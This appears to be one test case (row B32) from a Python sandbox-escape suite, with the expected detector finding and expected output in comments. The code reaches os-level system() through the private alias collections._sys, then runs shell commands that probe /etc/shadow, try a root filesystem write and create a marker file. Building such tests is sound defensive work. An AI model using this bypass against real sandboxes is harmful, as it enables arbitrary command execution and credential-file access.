# row: B32
# attack: `sys.modules` without naming sys: an allowed module's private alias of sys
#   (`collections._sys`) reaches `modules['posix'].system`.
# v-on-finding: rule=name.qualified_denied source=ast text='collections._sys
# v-off-status: ok
# v-off-stdout-contains: system() reached
# v-off-stdout-contains: uid=65534(nobody) gid=65534(nogroup)
# v-off-stdout-contains: shell /etc/shadow: DENIED
# v-off-stdout-contains: shell rootfs write: DENIED
# v-off-stdout-not-contains: ALLOWED
# v-off-host-path-absent: /tmp/sandbox-escape-B32_private_sys_modules
# limits: wall_time_s=10
import collections

SHELL = (
    "echo 'system() reached'; id; "
    'cat /etc/shadow >/dev/null 2>&1 && echo "shell /etc/shadow: ALLOWED" || echo "shell /etc/shadow: DENIED"; '
    'touch /etc/escaped 2>/dev/null && echo "shell rootfs write: ALLOWED" || echo "shell rootfs write: DENIED"; '
    "touch /tmp/sandbox-escape-B32_private_sys_modules"
)


try:
    posix = collections._sys.modules["posix"]
    system = posix.system
except Exception as exc:
    print(f"system() not reached: {type(exc).__name__}: {exc}")
else:
    print(f"collections._sys.modules gave {posix!r}", flush=True)
    print(f"system() exit status {system(SHELL)}")
